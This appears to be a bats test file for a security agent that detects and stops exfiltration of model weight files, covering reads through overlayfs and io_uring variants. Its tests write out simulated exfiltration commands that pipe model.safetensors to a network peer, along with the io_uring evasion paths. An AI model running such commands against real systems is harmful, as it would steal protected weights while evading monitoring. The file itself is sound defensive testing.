#!/usr/bin/env bats
# Read paths (issue 10, item 3): the weights read through overlayfs (a
# container's image layer: the page cache is the real inode's, stat(2)
# names the overlay inode) and through io_uring variants that make no
# read or send syscall per operation (SQPOLL, SEND_ZC, READ linked to
# SEND). Each ends in egress to the test host, in monitor and enforce mode,
# and names the original file.

load ../lib/harness

setup() {
	vigil_setup
	OVL="$T/ovl"
}
teardown() {
	if mountpoint -q "$OVL/merged" 2>/dev/null; then umount "$OVL/merged"; fi
	vigil_teardown
}

BUDGET=$((1 << 20))
URING="$VIGIL_ROOT/.output/scenarios/uring_leak"

# overlay_mount LOWER: $OVL/merged, an overlay of LOWER (read-only image
# layer) under an empty upper layer, as a container runtime mounts it
overlay_mount() {
	mkdir -p "$OVL/upper" "$OVL/work" "$OVL/merged"
	mount -t overlay overlay \
		-o "lowerdir=$1,upperdir=$OVL/upper,workdir=$OVL/work" "$OVL/merged"
}

# overlay_upload SRC MODE SOURCE [AGENT-ARGS]: cat SRC (through the
# overlay) piped to a sender; monitor: all of it arrives and is alerted
# naming SOURCE; enforce: the sender is killed at the budget, critical,
# naming SOURCE
overlay_upload() {
	start_sink tcp
	start_agent --mode "$2" "${@:4}"
	run in_cg sh -c 'cat "$1" | python3 "$2" --stdin --host "$3" --port "$4"' \
		sh "$1" "$EXFIL" "$PEER4" "$PORT"
	if [ "$2" = enforce ]; then
		[ "$status" -ne 0 ]
		[ "$(sink_bytes)" -le "$BUDGET" ]
		run alert_wait action=killed severity=critical mode=enforce \
			taint.sources.0.path="$3" taint.chain.0.comm=cat taint.chain.1.via=pipe
	else
		[ "$status" -eq 0 ]
		[ "$(sink_bytes)" -eq $((4 << 20)) ]
		run alert_wait rule=weights-egress action=alert mode=monitor \
			taint.sources.0.path="$3" taint.chain.0.comm=cat taint.chain.1.via=pipe
	fi
	[ "$status" -eq 0 ]
}

# a layer outside $W: only the overlay path is protected
image_layer() {
	mkdir -p "$OVL/lower/models"
	cp "$W/model.safetensors" "$OVL/lower/models/model.safetensors"
	overlay_mount "$OVL/lower"
}

@test "readpaths: monitor: a file protected by its overlayfs path is seen when read through the overlay" {
	image_layer
	overlay_upload "$OVL/merged/models/model.safetensors" monitor \
		"$OVL/merged/models/model.safetensors" --protect "$OVL/merged/**"
}

@test "readpaths: enforce: a file protected by its overlayfs path, read through the overlay, is stopped at the budget" {
	image_layer
	overlay_upload "$OVL/merged/models/model.safetensors" enforce \
		"$OVL/merged/models/model.safetensors" --protect "$OVL/merged/**"
}

@test "readpaths: monitor: weights protected in the lower layer, read through the overlay, name the real file" {
	overlay_mount "$W"
	overlay_upload "$OVL/merged/model.safetensors" monitor "$W/model.safetensors"
	run alert_none kind=alert taint.sources.*.path~"$OVL"
	[ "$status" -eq 0 ]
}

@test "readpaths: monitor: an overlay file that is not protected taints nobody" {
	mkdir -p "$OVL/lower"
	head -c $((4 << 20)) /dev/urandom > "$OVL/lower/data.bin"
	overlay_mount "$OVL/lower"
	start_sink tcp
	start_agent --mode monitor --protect "$OVL/merged/models/**"
	run in_cg sh -c 'cat "$1" | python3 "$2" --stdin --host "$3" --port "$4"' \
		sh "$OVL/merged/data.bin" "$EXFIL" "$PEER4" "$PORT"
	[ "$status" -eq 0 ]
	[ "$(sink_bytes)" -eq $((4 << 20)) ]
	stop_agent
	run alert_none kind=alert rule~weights
	[ "$status" -eq 0 ]
}

# ---- io_uring variants --------------------------------------------------------

# uring MODE vigil-MODE: the weights read and sent with io_uring MODE
uring() {
	start_sink tcp
	start_agent --mode "$2"
	run in_cg "$URING" "$W/model.safetensors" "$PEER4" "$PORT" "$1"
	if [ "$2" = enforce ]; then
		[ "$status" -eq 137 ]
		[ "$(sink_bytes)" -le "$BUDGET" ]
		run alert_wait action=killed severity=critical process.comm=uring_leak \
			taint.sources.0.path="$W/model.safetensors"
	else
		[ "$status" -eq 0 ]
		[ "$(sink_bytes)" -eq $((4 << 20)) ]
		run alert_wait rule=weights-egress process.comm=uring_leak taint.chain.0.via=read \
			taint.sources.0.path="$W/model.safetensors" network.daddr="$PEER4"
		[ "$status" -eq 0 ]
		run alert_wait rule=weights-egress-budget process.comm=uring_leak
	fi
	[ "$status" -eq 0 ]
}

@test "readpaths: monitor: io_uring with SQPOLL (no syscall per operation) is caught" {
	uring sqpoll monitor
}

@test "readpaths: enforce: io_uring with SQPOLL is killed at the budget" {
	uring sqpoll enforce
}

@test "readpaths: monitor: io_uring SEND_ZC (zero-copy send) is caught" {
	uring send-zc monitor
}

@test "readpaths: enforce: io_uring SEND_ZC is killed at the budget" {
	uring send-zc enforce
}

@test "readpaths: monitor: io_uring READ linked to SEND is caught" {
	uring linked monitor
}

@test "readpaths: enforce: io_uring READ linked to SEND is killed at the budget" {
	uring linked enforce
}
